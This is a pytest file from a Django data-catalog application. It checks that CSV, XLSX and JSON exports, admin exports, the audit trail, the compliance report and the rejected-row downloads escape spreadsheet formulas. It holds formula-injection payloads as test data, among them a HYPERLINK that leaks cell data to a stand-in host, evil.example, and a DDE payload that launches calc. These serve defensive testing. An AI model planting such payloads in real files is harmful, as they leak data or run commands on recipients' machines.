# ruff: noqa: F811 (the pipelines' fixtures are imported by name)
"""Issue 15 #7: exports a spreadsheet opens never carry a cell that runs as a formula.

Every export path is probed with the review's payloads: the catalog's django-import-export resources
(CSV, XLSX, JSON; through the service and the admin), the audit trail, the compliance report and a run's
rejected rows.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from catalog.imports import FORMATS, catalog_import, result_error_lines
from catalog.models import Column, Domain, Entity, Regulation, RetentionPolicy
from catalog.resources import RESOURCES
from catalog.services import catalog_object_save
from compliance.models import RetentionExecution
from core.exports import formula_escaped, formula_unescaped, spreadsheet_cell
from pipelines.services import pipeline_run_request
from tests.conftest import make_user
from tests.pipelines.conftest import (  # noqa: F401
    CUSTOMER_CSV,
    import_root,
    make_pipeline,
    run_sql,
    scratch_database,
    shop,
    target_store,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PAYLOADS = [HYPERLINK, "=1+cmd", "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+cmd", " =1+cmd"]


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def export_file(kind: str, file_format: str):
    resource = RESOURCES[kind]()
    return FORMATS[file_format]().export_data(resource.export(resource.get_queryset()))


def file_rows(content, file_format: str) -> list[list]:
    if file_format == "xlsx":
        return [list(row) for row in openpyxl.load_workbook(io.BytesIO(content)).active.values]
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_run_as_a_formula_gets_an_apostrophe(payload):
    assert spreadsheet_cell(payload) == "'" + payload
    assert spreadsheet_cell(payload, numeric=True) == "'" + payload
    assert formula_unescaped(formula_escaped(payload)) == payload


@pytest.mark.parametrize("text", ["plain", "a=b", "", "ada@example.com", "2024-01-05", "'quoted"])
def test_ordinary_text_is_written_as_it_is(text):
    assert spreadsheet_cell(text) == text and formula_unescaped(text) == text


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_escaped():
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(-2.5) == -2.5
    assert spreadsheet_cell("-5", numeric=True) == "-5"
    assert spreadsheet_cell("-1.5e3", numeric=True) == "-1.5e3"
    assert spreadsheet_cell("-5") == "'-5"
    assert spreadsheet_cell("-5+cmd", numeric=True) == "'-5+cmd"


@pytest.fixture
def hostile_catalog(datastore, steward):
    domain = catalog_object_save(obj=Domain(name=HYPERLINK, description="=1+cmd"), user=steward)
    entity = catalog_object_save(
        obj=Entity(datastore=datastore, name="orders", domain=domain, description="-2+3+cmd|' /C calc'!A0"),
        user=steward,
    )
    catalog_object_save(
        obj=Column(entity=entity, name="delta", data_type="integer", min_value="-5", description="@SUM(1)"),
        user=steward,
    )
    catalog_object_save(obj=Column(entity=entity, name="closed_at", data_type="date"), user=steward)
    return entity


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_entity_domain_and_column_exports_escape_formulas_and_keep_numbers(hostile_catalog, file_format):
    entities = file_rows(export_file("entities", file_format), file_format)
    entity = dict(zip(entities[0], entities[1], strict=True))
    assert entity["description"] == "'-2+3+cmd|' /C calc'!A0" and entity["domain"] == "'" + HYPERLINK
    domains = file_rows(export_file("domains", file_format), file_format)
    assert dict(zip(domains[0], domains[1], strict=True))["description"] == "'=1+cmd"
    columns = file_rows(export_file("columns", file_format), file_format)
    column = dict(zip(columns[0], columns[1], strict=True))
    assert column["description"] == "'@SUM(1)" and column["min_value"] == "-5"
    assert column["position"] in (1, "1")
    if file_format == "xlsx":  # openpyxl writes a text starting with "=" as a formula cell unless escaped
        workbook = openpyxl.load_workbook(io.BytesIO(export_file("domains", file_format)))
        assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)


def test_json_export_escapes_too_and_every_export_imports_back_as_it_was(hostile_catalog, steward):
    for file_format in ("csv", "xlsx", "json"):
        content = export_file("entities", file_format)
        content = content.encode() if isinstance(content, str) else content
        result = catalog_import(
            resource_name="entities", content=content, file_format=file_format, user=steward
        )
        assert not result_error_lines(result)
        assert Entity.objects.get(name="orders").description == "-2+3+cmd|' /C calc'!A0"
    assert '"\'=1+cmd"' in export_file("domains", "json")


def test_admin_export_of_entities_escapes_formulas(client, steward, hostile_catalog):
    client.force_login(steward)
    page = client.get(reverse("admin:catalog_entity_export"))
    form = page.context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial is not None}
    data.update({"format": "0", "resource": "0"})  # CSV
    response = client.post(reverse("admin:catalog_entity_export"), data)
    assert response.status_code == 200, response.content[:500]
    rows = csv_rows(response)
    entity = dict(zip(rows[0], rows[1], strict=True))
    assert entity["description"] == "'-2+3+cmd|' /C calc'!A0"


def test_a_page_without_its_own_resource_exports_escaped_cells_too(client, officer):
    catalog_object_save(obj=Regulation(code="=1+cmd", name="@SUM(1)"), user=officer)
    client.force_login(officer)
    page = client.get(reverse("admin:catalog_regulation_export"))
    form = page.context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial is not None}
    data.update({"format": "0", "resource": "0"})
    rows = csv_rows(client.post(reverse("admin:catalog_regulation_export"), data))
    regulation = next(dict(zip(rows[0], row, strict=True)) for row in rows[1:] if "'=1+cmd" in row)
    assert (regulation["code"], regulation["name"]) == ("'=1+cmd", "'@SUM(1)")


def test_audit_trail_export_escapes_formulas(client, officer, hostile_catalog):
    make_user("-2+3+cmd")
    domain = Domain.objects.get()
    domain.description = "changed"
    catalog_object_save(
        obj=domain, user=Domain._meta.apps.get_model("auth", "User").objects.get(username="-2+3+cmd")
    )
    client.force_login(officer)
    rows = csv_rows(client.get(reverse("admin:catalog_audittrail_export")))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells and "'-2+3+cmd" in cells
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell]
    assert all(row[4].isdigit() for row in rows[1:])  # object ids stay numbers


def test_compliance_report_csv_escapes_formulas(client, officer, hostile_catalog, steward):
    orders = hostile_catalog
    policy = catalog_object_save(
        obj=RetentionPolicy(
            entity=orders,
            name="=1+cmd",
            anchor_column=orders.columns.get(name="closed_at"),
            keep_for=1,
            keep_unit="days",
        ),
        user=steward,
    )
    RetentionExecution.objects.create(
        policy=policy,
        policy_version=1,
        policy_name=policy.name,
        datastore_name="shop",
        entity_name="@orders",
        action="delete",
        status="succeeded",
    )
    client.force_login(officer)
    rows = csv_rows(client.get(reverse("admin:compliance_compliancereport_csv")))
    execution = next(row for row in rows if row[0] == "retention execution")
    assert execution[2:4] == ["'@orders", "'=1+cmd"] and execution[6] == "0"
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell]


def test_rejected_rows_export_escapes_formulas_but_keeps_a_numeric_columns_numbers(
    client, officer, shop, import_root, platform_admin
):
    from pipelines.runner import pipeline_run_execute

    (import_root / "customers.csv").write_text(
        CUSTOMER_CSV
        + "4,x,=1+cmd,DE,2024-01-01,-5,yes,2024-01-01 00:00:00\n"
        + "5,y,Bob,DE,2024-01-01,-2+3+cmd|' /C calc'!A0,yes,2024-01-01 00:00:00\n"
    )
    pipeline = make_pipeline(shop.customer, platform_admin, reject_threshold_percent=80)
    run = pipeline_run_execute(pipeline_run_request(pipeline, user=platform_admin, enqueue=False).pk)
    client.force_login(officer)
    response = client.get(reverse("admin:pipelines_pipelinerun_rejected_csv", args=[run.pk]))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_id = {row["id"]: row for row in rows}
    assert by_id["4"]["name"] == "'=1+cmd" and by_id["4"]["score"] == "-5"
    assert by_id["5"]["score"] == "'-2+3+cmd|' /C calc'!A0"
